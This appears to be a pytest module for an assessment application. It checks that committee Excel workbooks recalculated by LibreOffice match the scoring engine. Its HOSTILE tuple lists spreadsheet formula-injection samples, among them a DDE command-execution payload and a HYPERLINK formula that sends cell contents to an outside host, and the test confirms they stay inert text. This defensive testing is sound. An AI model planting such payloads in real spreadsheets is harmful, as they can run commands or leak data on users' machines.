"""LibreOffice calculates the committee's workbook and finds what the engine found."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from workbook_cases import EDITION, NOW, THAI, case_state, everywhere

from assessor_app.assessment.standing import evaluate_case
from assessor_app.casefile.records.case_state import CaseState
from assessor_app.casefile.records.choices import Sign
from assessor_app.criteria.reasons import status_word, verdict_word
from assessor_app.reports.excel.report import write_workbook
from assessor_app.reports.feedback import build_feedback
from assessor_app.words import say

pytestmark = pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice is not installed")

_SCORES, _RULES, _SUMMARY = 1, 2, 0

HOSTILE = (
    "=2+2", "=1/0", '=HYPERLINK("http://a.example/?"&A1,"ดูที่นี่")', "=cmd|' /C calc'!A0",
    "+1+1", "-5", "@SUM(1,2)", "\t=1+1", "#N/A", "#REF!", "{=1+1}", "'=1+1", "TRUE", "1e5",
    "0012", "12/3/2564", "50%", "=ปี่", "_x003D_1+1", "&=1", "==1", " =1+1",
)


@dataclass(frozen=True)
class Trial:
    """A case, what is typed into its workbook, and the case that this makes of it."""

    state: CaseState
    typed: Mapping[str, Any]  # by item, category, "fl" or "prior:N"
    then: CaseState
    language: str = "th"


def _trials() -> dict[str, Trial]:
    yes, no = say("workbook.yes", "th"), say("workbook.no", "th")
    ties = everywhere(50)
    tie = case_state(ties, prior=("1",))
    gaps = everywhere(45, _3_1=(30, 55), _7_2=(25, 30, 50))
    for item in ("1.2", "7.6"):
        del gaps[item]
    gappy = case_state(gaps, fl=None, prior=None)
    floors = everywhere(25, _7_1=30, _7_2=30, _7_3=25, _7_4=30, _2_1=50, _2_2=50)
    floor = case_state(floors, fl=False, prior=())
    units: dict[str, Any] = {"1": 50, "3": (45, 60), "4": 95, "7": 90, "5.1": 40, "5.2": 35,
                             "6": (40,), "6.1": (50, 60), "6.2": (30, 45)}
    unit = case_state(units, prior=("1", "2"))
    forty = case_state(everywhere(40), prior=("1", "2"))

    def but(scores: Mapping[str, Any], **changes: Any) -> dict[str, Any]:
        changed = {**scores, **{k[1:].replace("_", "."): v for k, v in changes.items()}}
        return {key: value for key, value in changed.items() if value is not None}

    one_unit = but(ties, _3=50, _3_1=None, _3_2=None)
    return {
        "ties": Trial(tie, {}, tie),
        "ties in English": Trial(tie, {}, tie, "en"),
        "gaps": Trial(gappy, {}, gappy),
        "floors": Trial(floor, {}, floor),
        "units": Trial(unit, {}, unit),
        "forty": Trial(forty, {}, forty, "en"),
        "a tie is passed": Trial(tie, {"3.1": 55}, case_state(but(ties, _3_1=55), prior=("1",))),
        "a score is emptied": Trial(
            tie, {"3.1": None}, case_state(but(ties, _3_1=None), prior=("1",))),
        "a score that cannot be": Trial(
            tie, {"3.1": 52, "4.2": "สูง"},
            case_state(but(ties, _3_1=None, _4_2=None), prior=("1",))),
        "a zero": Trial(tie, {"7.3": 0}, case_state(but(ties, _7_3=0), prior=("1",))),
        "a unit instead": Trial(tie, {"3": 50}, case_state(one_unit, prior=("1",))),
        "a gap is filled": Trial(
            gappy, {"1.2": 50, "7.6": 30, "3.1": 55},
            case_state(but(gaps, _1_2=50, _7_6=30, _3_1=55), fl=None, prior=None)),
        "facts are given": Trial(
            gappy, {"fl": yes, **{f"prior:{n}": yes if n < 3 else no for n in range(1, 7)}},
            case_state(gaps, fl=True, prior=("1", "2"))),
        "facts change": Trial(
            floor, {"fl": yes, "prior:3": yes}, case_state(floors, fl=True, prior=("3",))),
        "another unit": Trial(
            unit, {"1": 45, "4": 20, "3": 55},
            case_state(but(units, _1=45, _4=20, _3=55), prior=("1", "2"))),
        "forty is missed": Trial(
            forty, {"6.2": 35}, case_state(but(everywhere(40), _6_2=35), prior=("1", "2")), "en"),
    }


TRIALS = _trials()
Books = tuple[Workbook, Workbook, Workbook]


def _written(state: CaseState, language: str, path: Path) -> Path:
    write_workbook(build_feedback(
        state, EDITION, skin="committee", language=language, made_at=NOW), path)
    return path


def _type(book: Workbook, typed: Mapping[str, Any], language: str) -> None:
    sheet = book.worksheets[_SCORES]
    rows: dict[str, int] = {}
    for row in sheet.iter_rows(min_row=5):
        if row[0].value:
            rows[str(row[0].value)] = row[0].row
        label = str(row[1].value or "")
        if label == say("workbook.fl", language):
            rows["fl"] = row[0].row
        for category in EDITION.categories:
            prior = say("workbook.prior_award", language, id=category.id,
                        name=category.short_name.of(language))
            if label == prior:
                rows[f"prior:{category.id}"] = row[0].row
    for where, value in typed.items():
        sheet.cell(rows[where], 4).value = value


@pytest.fixture(scope="module")
def recalculate(tmp_path_factory: pytest.TempPathFactory) -> Callable[[list[Path]], list[Path]]:
    """Files as LibreOffice calculates them; each comes without any stored value."""
    home = tmp_path_factory.mktemp("soffice")

    def run(paths: list[Path]) -> list[Path]:
        out = tmp_path_factory.mktemp("recalculated")
        done = subprocess.run(
            ["soffice", f"-env:UserInstallation={home.as_uri()}", "--headless", "--convert-to",
             "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), *map(str, paths)],
            capture_output=True, text=True, timeout=300)
        assert done.returncode == 0, done.stderr
        return [out / path.name for path in paths]

    return run


@pytest.fixture(scope="module")
def results(
    recalculate: Callable[[list[Path]], list[Path]], tmp_path_factory: pytest.TempPathFactory,
) -> dict[str, Books]:
    """By trial: what LibreOffice calculated, of what, and the case's workbook it should equal."""
    folder = tmp_path_factory.mktemp("trials")
    typed = []
    for number, trial in enumerate(TRIALS.values()):
        path = _written(trial.state, trial.language, folder / f"{number}.xlsx")
        book = load_workbook(path)  # openpyxl keeps formulas and drops the stored values
        _type(book, trial.typed, trial.language)
        book.save(path)
        typed.append(path)
    return {
        name: (load_workbook(calculated, data_only=True), load_workbook(path), load_workbook(
            _written(trial.then, trial.language, folder / f"then-{path.name}"), data_only=True))
        for (name, trial), path, calculated in zip(
            TRIALS.items(), typed, recalculate(typed), strict=True)
    }


def _equal(first: Any, second: Any) -> bool:
    if isinstance(first, str) or isinstance(second, str):
        return (first or "") == (second or "")
    return first is second or (
        first is not None and second is not None and abs(first - second) < 1e-9)


@pytest.mark.parametrize("name", TRIALS)
def test_every_number_and_verdict_is_the_engines(
    results: dict[str, Books], name: str,
) -> None:
    *calculated, expected = results[name]
    trial = TRIALS[name]
    note = say("workbook.unchanged_note", trial.language)
    wrong, compared = [], 0
    for index in (_SUMMARY, _SCORES, _RULES):
        for row in calculated[1].worksheets[index].iter_rows():
            for cell in row:
                value = expected.worksheets[index].cell(cell.row, cell.column).value
                # that a field was changed is told in the one and not in the other
                if cell.data_type != "f" or (trial.typed and (
                        value == note or (index == _SCORES and cell.column == 12))):
                    continue
                compared += 1
                found = calculated[0].worksheets[index].cell(cell.row, cell.column).value
                if not _equal(found, value):
                    wrong.append((index, cell.coordinate, found, value))
    assert not wrong
    assert compared > 900


@pytest.mark.parametrize("name", TRIALS)
def test_rules_and_verdicts_are_those_of_evaluate(
    results: dict[str, Books], name: str,
) -> None:
    """The same, told from the engine's own records and not from the report's content."""
    trial = TRIALS[name]
    evaluation = evaluate_case(trial.then, EDITION)
    sheet = results[name][0].worksheets[_RULES]
    rows = list(sheet.iter_rows(min_row=6, values_only=True))
    starts = [n for n, row in enumerate(rows)
              if row[0] in {award.name.of(trial.language) for award in EDITION.awards}]
    assert len(starts) == len(EDITION.awards)
    for award, start in zip(EDITION.awards, starts, strict=True):
        result = evaluation.awards[award.id]
        block = []
        for row in rows[start + 1:]:
            if row[0] is None:
                break
            block.append(row)
        end = block.pop()
        assert end[1] == verdict_word(result.verdict, trial.language)
        for column, reading in ((6, "text"), (10, "table")):
            assert end[column] == verdict_word(result.readings[reading], trial.language)
            said = sorted((row[0], row[column]) for row in block
                          if row[column] != say("report.status_not_set", trial.language))
            engine = sorted((each.rule.name.of(trial.language),
                             status_word(each.status, trial.language))
                            for each in result.rules if reading in each.rule.readings)
            assert said == engine
        for row in block:
            of = [each for each in result.rules if each.rule.name.of(trial.language) == row[0]]
            if of[0].margin is not None:
                scale = 1 if of[0].rule.scope == "prior_awards" else 100
                assert round(row[1] * scale, 6) == of[0].low
                assert round(row[2] * scale, 6) == of[0].high
                required = {each.required for each in of}
                assert {round(row[n] * scale, 6) for n in (4, 8) if row[n] is not None} == required


def test_a_changed_field_is_counted(results: dict[str, Books]) -> None:
    def note(name: str) -> str:
        sheet = results[name][0].worksheets[_SUMMARY]
        return " ".join(str(row[0]) for row in sheet.iter_rows(max_row=14, values_only=True))

    same = say("workbook.unchanged_note", "th")
    assert same in note("ties")
    assert f"{say('workbook.changed_note_before', 'th')}3 " in note("a gap is filled")
    assert f"{say('workbook.changed_note_before', 'th')}1 " in note("a zero")
    assert f"{say('workbook.changed_note_before', 'th')}7 " in note("facts are given")


def test_hostile_words_stay_words(
    recalculate: Callable[[list[Path]], list[Path]], tmp_path: Path,
) -> None:
    state = case_state(
        everywhere(50), comments=tuple(("3.1", Sign.STRENGTH, text) for text in HOSTILE),
        issues=HOSTILE, people=("=1+1", "@SUM(1)", "-2"))
    path = _written(state, "th", tmp_path / "hostile.xlsx")
    plain = load_workbook(path)
    told, asked = say("workbook.sheet_comments", "th"), say("workbook.sheet_issues", "th")
    for sheet in (plain[told], plain[asked]):
        assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type in "fe"]
    book = load_workbook(recalculate([path])[0])
    comments = {cell.value.strip() for cell in book[told]["E"] if cell.value}
    questions = {cell.value.strip() for cell in book[asked]["D"] if cell.value}
    authors = {cell.value for cell in book[told]["I"]}
    for text in HOSTILE:
        assert text.strip() in comments
        assert text.strip() in questions
    assert {"=1+1", "@SUM(1)", "-2"} <= authors


def test_a_long_comment_is_whole(
    recalculate: Callable[[list[Path]], list[Path]], tmp_path: Path,
) -> None:
    text = THAI * 250
    assert len(text) > 32_767
    path = _written(case_state(everywhere(50), comments=(("3.1", Sign.OFI, text),)), "th",
                    tmp_path / "long.xlsx")
    sheet = load_workbook(recalculate([path])[0])[say("workbook.sheet_comments", "th")]
    pieces = [row[4] for row in sheet.iter_rows(min_row=5, values_only=True) if row[4]]
    assert len(pieces) > 10
    assert "".join(pieces).replace(" ", "") == text.replace(" ", "")
